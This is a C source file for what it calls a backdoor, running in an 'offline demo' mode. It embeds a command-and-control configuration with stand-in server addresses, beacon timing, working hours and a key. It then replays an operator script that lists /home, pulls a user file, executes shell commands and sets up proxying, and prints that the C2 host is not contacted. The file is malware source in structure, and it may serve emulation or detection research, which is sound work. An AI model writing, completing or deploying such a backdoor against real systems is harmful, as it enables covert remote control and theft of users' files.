/* Backdoor: the session loop, the offline operator script, main. */
#include <stdio.h>
#include <string.h>

#include "backdoor.h"

static const char default_config[] =
    "# operator: orchid\ncampaign=orchid-7\nc2=198.51.100.23:443;files.example.org:8443;"
    "203.0.113.9:80\ninterval=300\njitter=20\nhours=7-20\n"
    "key=4f72636869642d372d626574612d6b31\nflags=0x5\n";

static int session(struct bd *b, const uint8_t *in, size_t n)
{
    uint8_t buf[65536 + 1];
    size_t off = 0;
    int handled = 0;
    while (off + BETA_HDR <= n && b->running) {
        uint16_t cmd;
        uint32_t seq;
        size_t plen = (size_t)(in[off + 6] | in[off + 7] << 8);
        long got = beta_unpack(buf, sizeof(buf) - 1, &cmd, &seq, in + off, n - off, b->cfg.key);
        if (got < 0)
            return -1;
        dispatch(b, cmd, buf, (size_t)got);
        handled++;
        off += BETA_HDR + plen;
    }
    return handled;
}

/* what an operator would send, for the offline run */
static size_t operator_script(const struct bd *b, uint8_t *out, size_t cap)
{
    static const struct { uint16_t cmd; const char *arg; } script[] = {
        {CMD_HELLO, ""}, {CMD_SYSINFO, ""}, {CMD_LIST, "/home"}, {CMD_GET, "/home/demo/notes.txt"},
        {CMD_EXEC, "id; uname -a"}, {CMD_SLEEP, "240"}, {CMD_PROXY, ""}, {CMD_EXIT, ""},
    };
    size_t n = 0;
    for (unsigned i = 0; i < sizeof(script) / sizeof(script[0]); i++)
        n += beta_pack(out + n, cap - n, script[i].cmd, 1000 + i, (const uint8_t *)script[i].arg,
                       strlen(script[i].arg), b->cfg.key);
    return n;
}

int main(void)
{
    static struct bd b;
    uint8_t blob[1024], in[8192];

    size_t bl = beta_cfg_encode(blob, sizeof(blob), default_config);
    if (beta_cfg_load(&b.cfg, blob, bl) < 0)
        return 1;
    b.running = 1;
    snprintf(b.fs[0].path, sizeof(b.fs[0].path), "/home/demo/notes.txt");
    b.fs[0].size = (size_t)snprintf((char *)b.fs[0].data, sizeof(b.fs[0].data), "meeting at 10\n");
    b.nfs = 1;
    const struct beta_c2 *c2 = beta_cfg_next_c2(&b.cfg, 0);
    printf("beta backdoor v%d (offline demo), campaign %s, c2 %s:%u (not contacted)\n",
           TOOL_VERSION, b.cfg.campaign, c2->host, c2->port);
    size_t n = operator_script(&b, in, sizeof(in));
    int h = session(&b, in, n);
    printf("%d commands handled, %zu bytes of replies\n", h, b.outn);
    return h > 0 ? 0 : 1;
}
